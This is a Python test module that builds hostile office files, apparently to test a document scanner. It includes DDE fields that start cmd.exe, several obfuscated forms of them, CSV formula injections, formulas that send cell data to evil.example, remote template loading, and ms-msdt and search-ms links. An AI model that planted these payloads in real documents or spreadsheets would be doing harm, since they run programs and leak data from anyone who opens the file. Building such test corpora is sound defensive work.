"""Fields, formulas, templates and links of office documents that start programs or reach out."""

from __future__ import annotations

import struct
from collections.abc import Callable

from tests.attacks.attack import Attack
from tests.attacks.macros import ACTIVE, DOC, LETTER, XLS
from tests.attacks.ole_builder import record, sheet_name, word, workbook
from tests.attacks.ooxml_builder import (
    DOCX,
    SHEET_NS,
    XLSX,
    code,
    complex_field,
    docx,
    formula,
    mark,
    paragraph,
    relations,
    run,
    word_xml,
    xlsx,
)

CSV, TXT = "text/csv", "text/plain"
CALC = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
_WEB = "http://evil.example/mau.dotm"


def _settings(kind: str, target: str) -> bytes:
    body = '<w:attachedTemplate r:id="rId1"/>'
    return docx(
        "",
        [("settings", "settings.xml", False)],
        {
            "word/settings.xml": word_xml(body, "settings"),
            "word/_rels/settings.xml.rels": relations([(kind, target, True)]),
        },
    )


def _field(*codes: str) -> bytes:
    return docx(paragraph(complex_field(*map(code, codes))))


def _quoted() -> bytes:
    """The program's name written by numbers."""
    numbers = " ".join(str(ord(letter)) for letter in "c:\\windows\\system32\\cmd.exe")
    inner = complex_field(code(f" QUOTE {numbers} "))
    return docx(
        paragraph(mark("begin") + code(" DDEAUTO ") + inner + code(' "/k calc" ') + mark("separate") + mark("end"))
    )


def _quoted_name() -> bytes:
    """The field's own name written by numbers."""
    inner = complex_field(code(" QUOTE 68 68 69 65 85 84 79 "))
    return docx(paragraph(mark("begin") + inner + code(f" {CALC} ") + mark("separate") + run("x") + mark("end")))


def _over_paragraphs() -> bytes:
    first = paragraph(mark("begin") + code(" DD"))
    return docx(
        first + paragraph(code("EAUTO excel ")) + paragraph(code('"\\\\..\\\\..\\\\cmd.exe" "/c calc"') + mark("end"))
    )


def _in_part(part: str, root: str) -> bytes:
    body = paragraph(complex_field(code(f" DDE {CALC} ")))
    name = f"word/{part}.xml"
    return docx("", [(part.rstrip("0123456789"), f"{part}.xml", False)], {name: word_xml(body, root)})


def _external(kind: str, target: str) -> bytes:
    return docx("", [(kind, target, True)])


def _book_link(more: bytes) -> bytes:
    letters = b"\x00cmd\x03/c calc.exe"
    book = record(0x1AE, struct.pack("<HH", 0, len(letters) - 1) + letters)
    return workbook(sheet_name("Trang1") + book + more)


def _dde_book() -> bytes:
    xml = (
        f'<?xml version="1.0"?><externalLink xmlns="{SHEET_NS}"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe">'
        '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
    )
    return xlsx(
        links=[("externalLink", "externalLinks/externalLink1.xml", False)],
        parts={"xl/externalLinks/externalLink1.xml": xml.encode()},
    )


def _query() -> bytes:
    xml = (
        f'<?xml version="1.0"?><connections xmlns="{SHEET_NS}"><connection id="1" type="4" refreshOnLoad="1">'
        '<webPr url="http://evil.example/a.htm"/></connection></connections>'
    )
    return xlsx(links=[("connections", "connections.xml", False)], parts={"xl/connections.xml": xml.encode()})


def _task_pane() -> bytes:
    kind = "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"
    xml = b'<?xml version="1.0"?><wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"/>'
    return docx(
        root_links=[(kind, "word/webextensions/taskpanes.xml", False)], parts={"word/webextensions/taskpanes.xml": xml}
    )


def _utf16_part() -> bytes:
    body = paragraph(complex_field(code(f" DDEAUTO {CALC} ")))
    text = word_xml(body, "ftr").decode().replace("UTF-8", "UTF-16")
    return docx("", [("footer", "footer1.xml", False)], {"word/footer1.xml": text.encode("utf-16")})


def _part_named_as_picture() -> bytes:
    body = paragraph(complex_field(code(f" DDEAUTO {CALC} ")))
    return docx("", [("header", "media/image1.emf", False)], {"word/media/image1.emf": word_xml(body, "hdr")})


def _attack(name: str, file_name: str, declared: str, make: Callable[[], bytes]) -> Attack:
    return Attack(name, "office-links", file_name, declared, make, ACTIVE)


def _docx(name: str, make: Callable[[], bytes]) -> Attack:
    return _attack(name, "cong van.docx", DOCX, make)


def _csv(name: str, line: str, encoding: str = "utf-8") -> Attack:
    return _attack(name, "so lieu.csv", CSV, lambda: f"STT,Ho ten\r\n1,A\r\n{line}\r\n".encode(encoding))


ATTACKS: tuple[Attack, ...] = (
    _docx("docx-dde", lambda: _field(f" DDEAUTO {CALC} ")),
    _docx("docx-dde-over-runs", lambda: _field(" D", "D", "E", "AU", "TO ", "c:\\\\windows\\\\", 'cmd.exe "/k calc"')),
    _docx(
        "docx-dde-simple", lambda: docx(paragraph(f'<w:fldSimple w:instr=" DDE {CALC.replace(chr(34), "&quot;")} "/>'))
    ),
    _docx("docx-dde-lower-case", lambda: _field(f" ddeAuto {CALC} ")),
    _docx("docx-dde-quoted-name", lambda: _field(f' "DDEAUTO" {CALC} ')),
    _docx("docx-dde-written-by-numbers", _quoted),
    _docx("docx-dde-name-written-by-numbers", _quoted_name),
    _docx("docx-dde-over-paragraphs", _over_paragraphs),
    _docx("docx-dde-in-header", lambda: _in_part("header1", "hdr")),
    _docx("docx-dde-in-footnotes", lambda: _in_part("footnotes", "footnotes")),
    _docx("docx-dde-in-comments", lambda: _in_part("comments", "comments")),
    _docx("docx-dde-in-utf16-footer", _utf16_part),
    _docx("docx-dde-in-part-named-as-picture", _part_named_as_picture),
    _attack("doc-dde", "cong van.doc", DOC, lambda: word(f"{LETTER}\x13 DDEAUTO {CALC} \x14!Loi\x15\n")),
    _attack(
        "doc-dde-nested",
        "cong van.doc",
        DOC,
        lambda: word(f"{LETTER}\x13 \x13 QUOTE 68 68 69 \x14DDE\x15 {CALC} \x14x\x15\n"),
    ),
    _attack(
        "doc-include-from-share",
        "cong van.doc",
        DOC,
        lambda: word(f'{LETTER}\x13 INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png" \\d \x14\x15\n'),
    ),
    _attack(
        "doc-template-from-share",
        "cong van.doc",
        DOC,
        lambda: word(LETTER, template="\\\\evil.example\\mau\\a.dot"),
    ),
    _attack("doc-template-from-web", "cong van.doc", DOC, lambda: word(LETTER, template="http://evil.example/a.dot")),
    _attack("xlsx-dde-link", "bang.xlsx", XLSX, _dde_book),
    _attack("xlsx-dde-formula", "bang.xlsx", XLSX, lambda: xlsx(formula("cmd|' /c calc.exe'!A0"))),
    _attack("xlsx-webservice", "bang.xlsx", XLSX, lambda: xlsx(formula('WEBSERVICE("http://evil.example/?"&B1)'))),
    _attack(
        "xlsx-hyperlink-that-sends",
        "bang.xlsx",
        XLSX,
        lambda: xlsx(formula('HYPERLINK("http://evil.example/?d="&B1,"Xem")')),
    ),
    _attack("xlsx-web-query", "bang.xlsx", XLSX, _query),
    _attack("xls-dde-link", "bang.xls", XLS, lambda: _book_link(b"")),
    _attack(
        "xls-dde-link-with-item",
        "bang.xls",
        XLS,
        lambda: _book_link(record(0x23, struct.pack("<HHHBB", 2, 0, 0, 2, 0) + b"A0")),
    ),
    _csv("csv-dde", "=cmd|' /C calc'!A0,2"),
    _csv("csv-dde-quoted", "\"=cmd|' /C calc, x'!A0\",2"),
    _csv("csv-dde-after-plus", "+cmd|' /C calc'!A0"),
    _csv("csv-dde-after-minus", "-2+3+cmd|' /C calc'!A0"),
    _csv("csv-dde-after-sum", "@SUM(1+9)*cmd|' /C calc'!A0"),
    _csv("csv-dde-after-blanks", "1,   =  cmd|'/c calc.exe'!A1"),
    _csv("csv-dde-other-program", "=rundll32|'URL.dll,OpenURL calc.exe'!A"),
    _csv("csv-dde-excel", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''"),
    _csv("csv-dde-in-a-call", "+thong_ke(cmd|' /C calc'!A"),
    _csv("csv-dde-function", '"=DDE(""cmd"";""/C calc"";""!A0"")"'),
    _csv("csv-dde-semicolons", "1;=cmd|' /C calc'!A0;3"),
    _csv("csv-dde-utf16", "=cmd|' /C calc'!A0", "utf-16"),
    _csv("csv-hyperlink-that-sends", '"=HYPERLINK(""http://evil.example/?x=""&A1&A2,""Bam vao day"")"'),
    _csv("csv-webservice", '"=WEBSERVICE(CONCATENATE(""http://evil.example/"",A1))"'),
    _csv("csv-importxml", '"=IMPORTXML(CONCAT(""http://evil.example/?v="",A1),""//a"")"'),
    _attack("txt-dde", "so lieu.txt", TXT, lambda: b"=cmd|' /C calc'!A0\r\n"),
    _docx("docx-template-from-web", lambda: _settings("attachedTemplate", _WEB)),
    _docx("docx-template-from-share", lambda: _settings("attachedTemplate", "\\\\evil.example\\mau\\a.dotm")),
    _docx("docx-template-from-share-as-file", lambda: _settings("attachedTemplate", "file://evil.example/mau/a.dotm")),
    _docx(
        "docx-template-from-share-five-slashes",
        lambda: _settings("attachedTemplate", "file://///evil.example/mau/a.dotm"),
    ),
    _docx("docx-template-escaped-address", lambda: _settings("attachedTemplate", "%68ttp://evil.example/a.dotm")),
    _docx(
        "docx-object-mhtml",
        lambda: _external("oleObject", "mhtml:http://evil.example/a.html!x-usc:http://evil.example/a.html"),
    ),
    _docx("docx-object-from-web", lambda: _external("oleObject", "http://evil.example/a.html!")),
    _docx("docx-object-msdt", lambda: _external("oleObject", "ms-msdt:/id PCWDiagnostic /skip force")),
    _docx("docx-frame-from-web", lambda: _external("frame", "http://evil.example/a.rtf")),
    _docx("docx-subdocument-from-share", lambda: _external("subDocument", "file://evil.example/a/b.docx")),
    _docx("docx-picture-from-web", lambda: _external("image", "https://evil.example/dem.png")),
    _docx("docx-picture-from-share", lambda: _external("image", "\\\\evil.example\\a\\dem.png")),
    _docx("docx-include-picture-from-web", lambda: _field(' INCLUDEPICTURE "http://evil.example/a.png" \\d ')),
    _docx("docx-include-text-from-share", lambda: _field(" INCLUDETEXT \\\\\\\\evil.example\\\\a\\\\b.docx ")),
    _docx("docx-linked-object-field", lambda: _field(' LINK htmlfile "http://evil.example/a.hta" "" \\a \\p ')),
    _docx("docx-link-that-starts-a-program", lambda: _external("hyperlink", "ms-msdt:/id PCWDiagnostic /param a")),
    _docx("docx-search-link", lambda: _external("hyperlink", "search-ms:query=x&crumb=location:\\\\evil.example\\a")),
    _docx("docx-task-pane", _task_pane),
)
